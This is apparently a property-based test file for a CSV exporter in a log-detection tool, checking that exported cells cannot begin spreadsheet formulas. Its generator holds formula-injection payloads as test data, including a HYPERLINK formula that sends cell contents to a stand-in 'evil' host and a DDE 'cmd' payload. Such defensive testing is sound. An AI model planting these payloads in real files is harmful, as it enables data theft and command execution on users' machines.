import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BENIGN, TAXONOMY } from '../detectors/taxonomy.ts';
import { csvOf, csvRecord } from './csv.ts';
import type { ExportedLine } from './exported-line.ts';
import { textOf } from './test-database.ts';

/** Records of a CSV file, read by the grammar of RFC 4180 with every field quoted. */
function parseCsv(csv: string): string[][] {
  const records: string[][] = [[]];
  const field = /"((?:[^"]|"")*)"(,|\r\n)/gy;
  while (field.lastIndex < csv.length) {
    const match = field.exec(csv);
    if (match === null) throw new Error(`No field of RFC 4180: ${csv}`);
    records.at(-1)!.push(match[1]!.replaceAll('""', '"'));
    if (match[2] === '\r\n') records.push([]);
  }
  records.pop();
  return records;
}

/** Pieces from which log lines that attack a spreadsheet are made. */
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%', "'", '"', '""', ',', ';', '\t'],
        ...[
          '\r',
          '\n',
          '\r\n',
          '\0',
          ' ',
          '=HYPERLINK("http://evil/?"&A1,"x")',
          "=cmd|' /C calc'!A0"
        ],
        ...['GET /a HTTP/1.1', '\ufeff', '\u2028', '\ud800', '\u200f']
      ),
      fc.string({ unit: 'binary' })
    ),
    { maxLength: 12 }
  )
  .map((pieces) => pieces.join(''));

const FORMULA = /^[\s\0]*[=+\-@＝＋－＠]/;

const line = (text: string, own: Partial<ExportedLine> = {}): ExportedLine => ({
  source: 'a.log',
  line: 7,
  time: Date.UTC(2026, 10, 21),
  format: 'syslog',
  classId: 5,
  unsure: false,
  byContext: false,
  confidence: 0.97654321,
  actor: '192.0.2.1',
  text,
  ...own
});

async function* batches(...all: ExportedLine[][]): AsyncGenerator<ExportedLine[]> {
  yield* all;
}

describe('CSV', () => {
  it('keeps any text, but for apostrophes before what a spreadsheet could read as a formula', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 5 }), (fields) => {
        const [record, ...more] = parseCsv(csvRecord(fields));
        expect(more).toEqual([]);
        const plain = (text: string) => text.replaceAll("'", '');
        expect(record!.map(plain)).toEqual(fields.map(plain));
      })
    );
  });

  it('has no cell that begins a formula, wherever a spreadsheet sees the borders of cells', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 5 }), (fields) => {
        for (const field of parseCsv(csvRecord(fields))[0]!) {
          for (const cell of field.split(/[;\t\r\n]/)) expect(cell).not.toMatch(FORMULA);
        }
      })
    );
  });

  it('leaves common log text as it is', () => {
    const text =
      '192.0.2.1 - - [21/Nov/2026:10:00:00 +0000] "GET /?a=1&b=-2 HTTP/1.1" 404 5 "-" "x/1 (+http://x)"';
    expect(parseCsv(csvRecord([text]))[0]).toEqual([text]);
  });

  it('names its columns and writes a record for each line of all batches', async () => {
    const csv = await textOf(
      csvOf(
        batches(
          [line('=1+1')],
          [
            line('b', { time: NaN, unsure: true, text: null, actor: '' }),
            line('c', { byContext: true })
          ]
        )
      )
    );
    const [names, first, second, third] = parseCsv(csv);
    const cell = (record: string[] | undefined, name: string) => record![names!.indexOf(name)];
    expect(cell(first, 'text')).toBe("'=1+1");
    expect(cell(first, 'time')).toBe('2026-11-21T00:00:00.000Z');
    expect(cell(first, 'verdict')).toBe('detection');
    expect(cell(first, 'class')).toBe(TAXONOMY[5]!.name);
    expect(cell(first, 'technique')).toBe('T1595.003');
    expect(cell(first, 'confidence')).toBe('0.9765');
    expect([cell(second, 'time'), cell(second, 'verdict'), cell(second, 'text')]).toEqual([
      '',
      'unsure',
      ''
    ]);
    expect([cell(third, 'verdict'), cell(third, 'text')]).toEqual(['by context', 'c']);
  });

  it('has a field for each column of every class', async () => {
    const ids = TAXONOMY.map((_, classId) => classId).filter((classId) => classId !== BENIGN);
    const records = parseCsv(
      await textOf(csvOf(batches(ids.map((classId) => line('x', { classId })))))
    );
    expect(new Set(records.map(({ length }) => length))).toEqual(new Set([13]));
  });
});
